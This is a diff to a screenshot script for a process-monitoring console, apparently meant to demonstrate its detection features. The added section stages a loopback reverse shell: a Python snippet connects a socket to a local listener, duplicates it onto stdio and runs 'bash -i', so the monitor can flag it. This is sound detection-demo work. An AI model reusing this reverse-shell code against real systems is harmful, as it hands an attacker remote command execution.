@@ -50,10 +50,13 @@ bin=$(cargo metadata --format-version 1 --no-deps |
 # Everything below is undone by cleanup, whatever happens.
 work=$(mktemp -d /tmp/perch-shots.XXXXXX)
 tsock="perch-shots-$$"
-perchd_pid="" demo_pid="" made_cgroups=()
+perchd_pid="" demo_pid="" listener_pid="" made_cgroups=()
 cleanup() {
   set +e
   tmux -L "$tsock" kill-server 2>/dev/null
+  # The incident's reverse shell and its listener.
+  [ -s "$work/rs.pid" ] && kill -KILL "$(cat "$work/rs.pid")" 2>/dev/null
+  [ -n "$listener_pid" ] && kill "$listener_pid" 2>/dev/null
   # The demo is one process group (its supervisor's); the pod's cgroup is
   # emptied too in case anything left the group.
   [ -z "$demo_pid" ] && demo_pid=$(cat "$work/demo.pid" 2>/dev/null)
@@ -153,19 +156,21 @@ wait_screen() {
   fail "timed out waiting for $what (last screen above)"
 }
 
-# select_row PATTERN: moves the cursor down (j) until the selected row (the
-# one on a cyan background) shows PATTERN, at most 20 rows: the rows above
+# select_pid PID: moves the cursor down (j) until the selected row (the
+# one on a cyan background) is process PID, at most 20 rows: the rows above
 # depend on what ran before (an exited setsid stays as an ancestor).
-select_row() {
-  local i
+select_pid() {
+  local i n
   for i in $(seq 20); do
     tmux -L "$tsock" capture-pane -p -e -N >"$work/screen.ansi" 2>/dev/null ||
       fail "the console is gone (selecting $1)"
-    grep -Eq -- "48;5;6m.*$1" "$work/screen.ansi" && return 0
+    sed 's/\x1b\[[0-9;:]*m//g' "$work/screen.ansi" >"$work/screen.txt"
+    n=$(grep -nE -- "^ *$1 " "$work/screen.txt" | head -1 | cut -d: -f1)
+    [ -n "$n" ] && sed -n "${n}p" "$work/screen.ansi" | grep -q '48;5;6m' && return 0
     keys j
     sleep 0.3
   done
-  fail "no row showing $1 could be selected"
+  fail "process $1 could not be selected"
 }
 
 # shoot NAME WHAT PATTERN...: renders the first capture showing PATTERN...
@@ -190,12 +195,12 @@ wait_screen "the demo's tree" \
   "Filter: $SHOP_FILTER" 'CONTAINER' 'shop-supervisor' 'www-data +[A-Z] +[0-9.]*[1-9][0-9.]* .*shop-web' \
   'shop-worker' '\[exit 0\] gzip' 'containerd-shim' 'nginx: master' '2x:nginx: worker process' \
   "${CONTAINER_ID:0:12}"
-select_row 'shop-supervisor'
+select_pid "$demo_pid"
 shoot tree "the demo's tree" '@48;5;6m.*shop-supervisor' '\[exit 0\] gzip' '2x:nginx: worker process'
 
 # (b) The same on an 80x24 terminal: columns give way to COMMAND.
 tmux -L "$tsock" resize-window -x 80 -y 24
-shoot tree-80x24 "the tree at 80x24" 'COMMAND' 'CONTAINER' '!TIME\+' 'shop-supervisor'
+shoot tree-80x24 "the tree at 80x24" 'COMMAND' 'TIME\+' '!READ/s' 'shop-sup'
 tmux -L "$tsock" resize-window -x 160 -y 48
 wait_screen "the console at 160x48 again" 'TIME\+' 'CONTAINER' 'shop-supervisor'
 
@@ -225,4 +230,37 @@ keys -l "crypto miner started by the nginx worker"
 shoot dialog "the kill dialog with a reason" 'YES, KILL PROCESS' 'crypto miner started'
 keys Escape
 
+# (f) An incident: a reverse shell on loopback (a listener that sends it
+# one command, and a python that puts its socket on its stdio and runs
+# `bash -i`), started from the shop's directory.  Its flags roll up into
+# one notable trace: the Traces screen, the trace's tree, the Flags screen.
+"$PYTHON" - "$work/rs.port" <<'PY' &
+import socket, sys, time
+s = socket.socket()
+s.bind(("127.0.0.1", 0))
+s.listen(1)
+open(sys.argv[1], "w").write(str(s.getsockname()[1]))
+c, _ = s.accept()
+c.sendall(b"id; uname -a\n")
+time.sleep(3600)
+PY
+listener_pid=$!
+until_ok "the listener" test -s "$work/rs.port"
+(
+  cd "$work/srv/shop"
+  # shellcheck disable=SC2016 # python code
+  setsid -f "$PYTHON" -c 'import os, socket, sys
+open(sys.argv[2], "w").write(str(os.getpid()))
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execv("/bin/bash", ["bash", "-i"])' "$(cat "$work/rs.port")" "$work/rs.pid" </dev/null >/dev/null 2>&1
+)
+keys y
+shoot traces "the Traces screen with the reverse shell's trace" 'SCORE' 'NAME/TRIGGER' 'reverse_shell|stdio_socket_dup' 'Traces: [0-9]+ high'
+keys Enter
+shoot trace "the reverse shell's trace" 'Flags, oldest first' 'reverse_shell' 'T1059' '\(notable\)'
+keys Escape
+keys f
+shoot flags "the Flags screen" 'SEV' 'MITRE' 'reverse_shell'
 log "done"
